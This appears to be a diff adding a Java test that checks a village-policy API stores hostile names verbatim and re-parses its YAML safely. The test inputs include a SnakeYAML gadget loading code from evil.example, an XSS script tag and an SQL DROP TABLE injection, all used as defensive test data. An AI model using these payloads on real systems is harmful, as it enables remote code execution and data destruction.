@@ -1051,6 +1051,27 @@ class HostileInputTest extends PolicyApiTest {
     }
 
     @Test
+    void hostileTextIsStoredAndShownExactlyAsSent() {
+        String village = publishedVillage("hz-text");
+        for (String name : List.of("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]",
+                "<script>alert(1)</script>", "'; DROP TABLE ledger; --", "*anchor &anchor <<: *anchor",
+                "檀阴社区 👨‍🌾", "a: b # c")) {
+            Response renamed = put(villagePath(village), Map.of("name", name, "author", "张三"));
+            assertThat(renamed.status()).as(renamed.raw()).isEqualTo(200);
+            assertThat(renamed.body().path("name").asText()).isEqualTo(name);
+            assertThat(get(villagePath(village)).body().path("name").asText()).isEqualTo(name);
+            // the published village.yaml reads back as the same name, not as a YAML tag or alias
+            String yaml = get(policy(village)).body().path("version").isMissingNode() ? null
+                    : get(policy(village) + "/versions/" + get(policy(village)).body().path("version").asInt())
+                            .body().path("contents").path("village.yaml").asText();
+            assertThat(yaml).isNotNull();
+            Object parsed = new org.yaml.snakeyaml.Yaml(new org.yaml.snakeyaml.constructor.SafeConstructor(
+                    new org.yaml.snakeyaml.LoaderOptions())).<Map<String, Object>>load(yaml).get("name");
+            assertThat(parsed).isEqualTo(name);
+        }
+    }
+
+    @Test
     void unknownFieldsAreNamedWithTheKnownOnes() {
         Response response = put(memberPath("tanyin", unique("m")), Map.of("householdId", "h", "role", "RESIDENT"));
         assertThat(response.status()).as(response.raw()).isEqualTo(400);
